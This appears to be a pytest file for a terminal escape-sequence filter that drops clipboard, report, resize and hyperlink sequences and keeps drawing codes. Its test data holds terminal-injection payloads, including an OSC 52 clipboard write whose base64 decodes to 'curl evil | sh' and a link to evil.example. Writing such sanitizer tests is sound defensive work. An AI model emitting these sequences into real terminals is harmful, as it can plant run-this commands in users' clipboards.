"""The terminal filter: only drawing sequences reach pyte or an asciicast file."""

from __future__ import annotations

import pytest

from replayer.ansi import MAX_STRING, TerminalFilter, sanitize_bytes


@pytest.mark.parametrize(
    ("attack", "raw"),
    [
        ("osc52_clipboard", b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"),
        ("osc0_title", b"\x1b]0;pwned\x07"),
        ("osc8_hyperlink", b"\x1b]8;;https://evil.example/\x1b\\"),
        ("osc_c1_introducer", "\u009d52;c;eA==\u009c".encode()),
        ("dsr_cursor_report", b"\x1b[6n"),
        ("dsr_private_report", b"\x1b[?6n"),
        ("title_report_21t", b"\x1b[21t"),
        ("window_resize_8t", b"\x1b[8;100;300t"),
        ("device_attributes", b"\x1b[c"),
        ("secondary_device_attributes", b"\x1b[>c"),
        ("decrqm_mode_request", b"\x1b[?2004$p"),
        ("decrqss_dcs", b"\x1bP$qm\x1b\\"),
        ("decid", b"\x1bZ"),
        ("mouse_reporting", b"\x1b[?1000h"),
        ("deccolm_resize", b"\x1b[?3h"),
        ("apc_string", b"\x1b_payload\x1b\\"),
        ("bell", b"\x07"),
        ("c1_csi_report", "\u009b6n".encode()),
    ],
)
def test_sequence_that_reaches_outside_the_screen_is_dropped(attack: str, raw: bytes) -> None:
    out = sanitize_bytes(b"<" + raw + b">")
    assert out == "<>", attack


@pytest.mark.parametrize(
    "raw",
    [b"\x1b[1;31m", b"\x1b[0m", b"\x1b[38;5;208m", b"\x1b[H", b"\x1b[2J", b"\x1b[10;5H",
     b"\x1b[K", b"\x1b[3A", b"\x1b[?25l", b"\x1b[?1049h", b"\x1b[1;24r", b"\x1b7", b"\x1b8",
     b"\x1b(0", b"\x1b(B", b"\r\n\t\b"],
)
def test_drawing_sequences_are_kept(raw: bytes) -> None:
    assert sanitize_bytes(raw) == raw.decode()


def test_c1_csi_becomes_a_seven_bit_csi() -> None:
    assert sanitize_bytes("\u009b31mred".encode()) == "\x1b[31mred"


def test_sequence_split_across_records_is_recognised() -> None:
    filt = TerminalFilter()
    assert filt.feed("a\x1b") == "a"
    assert filt.feed("]52;c;") == ""
    assert filt.feed("ZXZpbA==\x07b\x1b[3") == "b"
    assert filt.feed("1mc") == "\x1b[31mc"


def test_overlong_csi_is_dropped_without_storing_it() -> None:
    out = sanitize_bytes(b"\x1b[" + b"9" * 1_000_000 + b"Ax")
    assert out == "x"


def test_unterminated_osc_is_abandoned_after_the_bound() -> None:
    out = sanitize_bytes(b"\x1b]52;c;" + b"A" * (MAX_STRING + 10) + b"visible")
    assert out.endswith("visible")
    assert "\x1b" not in out


def test_bidi_override_and_invalid_utf8_are_replaced() -> None:
    assert sanitize_bytes("a\u202eb".encode() + b"\xff") == "a\ufffdb\ufffd"
